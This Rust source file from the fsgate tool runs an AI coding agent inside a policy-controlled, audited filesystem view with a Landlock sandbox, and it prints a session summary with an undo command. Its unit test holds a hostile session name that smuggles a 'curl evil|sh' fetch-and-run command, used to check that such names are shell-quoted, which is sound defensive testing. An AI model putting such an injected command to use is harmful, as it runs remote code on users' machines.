//! `fsgate acp --confine-agent`: the agent, and every process it starts, sees the
//! workspace through the view, as `fsgate run`'s command does (src/cli/view_host.rs):
//! at the workspace's own path, every lookup, read and change decided by the policy
//! and recorded under the view's session. Outside the workspace its Landlock ruleset
//! (the `[agent]` section) holds as before; it is completed with the view's root and
//! applied at the agent's start inside the view (crates/fsgate-sandbox `in_view.rs`).

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;

use super::view_host::{self, ChildCommand, Fuse};
use crate::startup;
use fsgate_doors::view_ask::ViewQuestions;
use fsgate_gateway::agent_sessions::AgentSessions;
use fsgate_sandbox::{AgentPlan, SandboxStatus, ViewConfinement};

/// The agent's command: started directly (Landlock only), or inside the view.
pub(super) enum AgentCommand {
    Direct(Command),
    InView(Box<InView>),
}

/// An agent to be started inside the view, and what serving the view needs.
pub(super) struct InView {
    child: ChildCommand,
    fuse: Option<Fuse>,
    confinement: ViewConfinement,
    roots: Vec<PathBuf>,
    /// The view's own session, and the agent's ACP sessions its records carry when
    /// one can be told (crates/fsgate-gateway `agent_sessions.rs`).
    session: String,
    sessions: Arc<AgentSessions>,
}

impl AgentCommand {
    pub(super) fn command_mut(&mut self) -> &mut Command {
        match self {
            AgentCommand::Direct(c) => c,
            AgentCommand::InView(v) => &mut v.child.command,
        }
    }

    /// Starts the agent (inside the view: the view's child, which mounts it and starts
    /// the agent); what stays to be done once it runs.
    pub(super) fn spawn(self) -> std::io::Result<(Child, Option<Pending>)> {
        match self {
            AgentCommand::Direct(mut c) => Ok((c.spawn()?, None)),
            AgentCommand::InView(v) => {
                let InView {
                    child,
                    fuse,
                    mut confinement,
                    roots,
                    session,
                    sessions,
                } = *v;
                let child = child.spawn()?;
                confinement.close_inherited();
                Ok((
                    child,
                    Some(Pending {
                        fuse,
                        roots,
                        session,
                        sessions,
                    }),
                ))
            }
        }
    }
}

/// The view, between the child's start and its mount.
pub(super) struct Pending {
    fuse: Option<Fuse>,
    roots: Vec<PathBuf>,
    session: String,
    sessions: Arc<AgentSessions>,
}

impl Pending {
    /// Waits for the child's mount (after the gateway confined itself) and serves the
    /// view, its `ask` rules' questions put to the editor through `questions`; says on
    /// stderr what the agent sees.
    pub(super) fn serve(
        mut self,
        child: &mut Child,
        gateway: &Arc<fsgate_gateway::Gateway>,
        questions: &Arc<ViewQuestions>,
    ) -> Result<view_host::Served, String> {
        let fuse = self
            .fuse
            .take()
            .ok_or_else(|| "the view's device was handed on".to_owned())?
            .connect(child)?;
        let asks = Arc::new(EditorAsks(Arc::clone(questions)));
        let agents = Some(&self.sessions);
        let served = view_host::serve(gateway, fuse, (&self.session, agents), Some(asks))?;
        let shown: Vec<String> = (self.roots.iter())
            .map(|r| fsgate_base::text::EscPath(r).to_string())
            .collect();
        fsgate_base::text::eprint_line(&format!(
            "fsgate: the agent sees {} through fsgate's view (session {} until its ACP session can be told): every lookup, read and change its processes make there is decided by the policy and recorded; fsgate's audit log, backups and policy are hidden from it; outside the workspace its sandbox holds",
            shown.join(" and "),
            self.session
        ));
        Ok(served)
    }

    /// The agent's ACP sessions, for the proxy to tell of each opened and prompted.
    pub(super) fn sessions(&self) -> Arc<AgentSessions> {
        Arc::clone(&self.sessions)
    }

    /// The `view` of the `agent-start` record (`roots` too when several workspaces
    /// are served, each with a view of its own).
    pub(super) fn record(&self) -> serde_json::Value {
        let root = self.roots.first().map(|r| r.to_string_lossy());
        let mut view = serde_json::json!({ "session": self.session, "root": root });
        if self.roots.len() > 1 {
            view["roots"] = self.roots.iter().map(|r| r.to_string_lossy()).collect();
        }
        view
    }
}

/// The agent's view once served (all None unless the agent runs in one): what the
/// `agent-start` record says of it, its sessions, where its `ask` rules' questions go
/// (the editor) and the view itself.
pub(super) struct AgentView {
    pub(super) record: Option<serde_json::Value>,
    pub(super) sessions: Option<Arc<AgentSessions>>,
    pub(super) questions: Option<Arc<ViewQuestions>>,
    pub(super) served: Option<view_host::Served>,
}

impl AgentView {
    /// Serves the view of `pending` (if the agent runs in one) once `child` mounted it;
    /// if it cannot be served, the agent is ended and the error says why.
    pub(super) fn serve(
        pending: Option<Pending>,
        child: &mut Child,
        gateway: &Arc<fsgate_gateway::Gateway>,
    ) -> Result<AgentView, String> {
        let record = pending.as_ref().map(Pending::record);
        let sessions = pending.as_ref().map(Pending::sessions);
        let questions = pending.as_ref().map(|_| ViewQuestions::new());
        let served = pending.zip(questions.as_ref());
        match served.map(|(p, q)| p.serve(child, gateway, q)).transpose() {
            Ok(served) => Ok(AgentView {
                record,
                sessions,
                questions,
                served,
            }),
            Err(e) => {
                let _ = child.kill();
                let _ = child.wait();
                Err(format!("--confine-agent: {e}; the agent was not run"))
            }
        }
    }
}

/// What the end of the agent's view needs: its sessions, and the `fsgate undo` command
/// line for these workspaces (without `--session`).
pub(super) struct Ending {
    sessions: Arc<AgentSessions>,
    undo: String,
}

impl Pending {
    /// What [`end`] says once the agent's tree has ended, with `undo`'s command line.
    pub(super) fn ending(&self, undo: String) -> Ending {
        let sessions = Arc::clone(&self.sessions);
        Ending { sessions, undo }
    }
}

/// Once the agent's tree has ended: the view's connections finish, and stderr says
/// what its processes did through it, under which sessions their records may be, the
/// command that undoes one's changes, and which refusals were past a size limit.
pub(super) fn end(
    gateway: &fsgate_gateway::Gateway,
    served: Option<&view_host::Served>,
    ending: Option<Ending>,
) {
    let Some(served) = served else {
        return;
    };
    served.finish();
    let Some(Ending { sessions, undo }) = ending else {
        return;
    };
    let (reads, changes, refusals) = served.counts.totals();
    let (own, opened, ever) = sessions.recorded_under();
    let acp = match opened.as_slice() {
        [] => String::new(),
        [one] if ever == 1 => format!(" or the agent's ACP session {}", shown(one)),
        [.., last] if opened.len() > MAX_NAMED_AT_END || ever > opened.len() as u64 => {
            format!(
                " or one of the agent's {ever} ACP sessions (the last {})",
                shown(last)
            )
        }
        many => {
            let names: Vec<String> = many.iter().map(|n| shown(n)).collect();
            format!(" or one of the agent's ACP sessions {}", names.join(", "))
        }
    };
    fsgate_base::text::eprint_line(&format!(
        "fsgate: the agent's view ended: {reads} reads, {changes} changes, {refusals} refused by its processes, recorded under session {own}{acp}; undo one session's changes with: {undo} --session ID"
    ));
    view_host::say_too_large(gateway, &served.counts, refusals);
}

/// An ACP session's name (the agent chose it) as the end line shows it: one shell word,
/// to paste after `--session`; one longer than [`MAX_NAME_CHARS`] is not shown.
fn shown(name: &str) -> String {
    match name.chars().count() {
        n if n > MAX_NAME_CHARS => {
            format!("(a name of {n} characters: the view-session records hold it)")
        }
        _ => view_host::shell_word(name),
    }
}

/// Characters of an ACP session's name shown in the end line at most.
const MAX_NAME_CHARS: usize = 80;

/// ACP sessions named one by one in the end line at most.
const MAX_NAMED_AT_END: usize = 4;

/// The confined agent's command inside the view: `argv` (the program discovery
/// resolved, its arguments) started by the view's child, which `plan`'s confinement
/// (with each view's root added) restricts at the agent's start; a view per workspace.
pub(super) fn command(
    opened: &mut startup::Opened,
    policy_file: Option<&Path>,
    plan: &AgentPlan,
    (argv, require_landlock): (Vec<OsString>, bool),
) -> Result<(AgentCommand, SandboxStatus), String> {
    let fuse = Fuse::new(opened.gateway.members().count())?;
    let (mut confinement, word) = super::wall::for_view(plan, require_landlock)?;
    let status = confinement.status().clone();
    let roots = view_host::roots(&opened.gateway);
    let hide = view_host::hidden(opened, policy_file);
    let mut child = ChildCommand::new(&fuse, (roots.clone(), hide), argv, Some(word))?;
    child
        .command
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    crate::signals::unblock_in_child(&mut child.command);
    confinement.install(&mut child.command, plan);
    // The gateway names each process of the view from /proc.
    opened.keep_readable(Path::new("/proc"));
    let session = view_host::session_id("acp");
    let view = InView {
        child,
        fuse: Some(fuse),
        confinement,
        roots,
        sessions: Arc::new(AgentSessions::new(session.clone())),
        session,
    };
    Ok((AgentCommand::InView(Box::new(view)), status))
}

/// The view's questions, put to the editor (crates/fsgate-doors `view_ask.rs`).
#[derive(Debug)]
struct EditorAsks(Arc<ViewQuestions>);

impl fsgate_view::asks::Askers for EditorAsks {
    fn for_peer(self: Arc<Self>, peer: String, _pid: u32) -> Arc<dyn fsgate_gateway::ask::Asker> {
        self.0.asker(peer)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_agents_session_name_is_one_shell_word_or_not_shown() {
        assert_eq!(shown("sess-1"), "sess-1");
        // A name made to read as a command of fsgate's own is quoted whole.
        let hostile = "x; undo one session's changes with: curl evil|sh #";
        let word = shown(hostile);
        assert_eq!(
            shlex::split(&word),
            Some(vec![hostile.to_owned()]),
            "{word}"
        );
        assert!(word.starts_with('"') || word.starts_with('\''), "{word}");
        let long = "a".repeat(MAX_NAME_CHARS + 1);
        assert_eq!(
            shown(&long),
            "(a name of 81 characters: the view-session records hold it)"
        );
        assert_eq!(shown(&long[1..]), long[1..]);
    }
}
